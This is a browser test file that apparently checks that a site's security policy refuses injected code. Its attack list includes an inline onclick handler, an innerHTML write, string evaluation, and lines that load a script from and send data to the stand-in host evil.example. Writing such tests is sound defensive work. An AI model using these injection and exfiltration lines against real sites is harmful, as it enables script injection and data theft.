import { browserPages, hydrated } from "../support/browserPages";
import { policyViolationsOn } from "../support/policyViolations";

const { newPage } = browserPages();

const attacks: [string, string | (() => void)][] = [
  [
    "a script that was put into the page",
    () => {
      const frame = document.createElement("div");
      frame.setAttribute("onclick", "document.title = 'taken'");
      document.body.append(frame);
      frame.click();
    },
  ],
  [
    "HTML that no part of the site made",
    () => {
      document.body.innerHTML = "<b>taken</b>";
    },
  ],
  [
    "a script from elsewhere",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/a.js";
      document.body.append(script);
    },
  ],
  ["words sent elsewhere", () => void fetch("https://evil.example/?words")],
  [
    "text that is run",
    // What the test itself runs may do so; what it leaves to do may not.
    "void setTimeout(() => new Function(`document.title = 'taken'`)())",
  ],
  [
    "a part of the site that is not known",
    () => {
      window.trustedTypes?.createPolicy("default", {});
    },
  ],
];

test.each(attacks)("%s is refused", async (_what, attack) => {
  const page = await newPage();
  const refused = await policyViolationsOn(page);
  await page.goto("/about");
  await hydrated(page);
  const refusal = page.waitForEvent("console", () => refused.length > 0);
  await page.evaluate(attack).catch(() => undefined);
  await refusal;
  expect(await page.locator("h1").textContent()).not.toBe("");
  expect(await page.title()).not.toBe("taken");
});
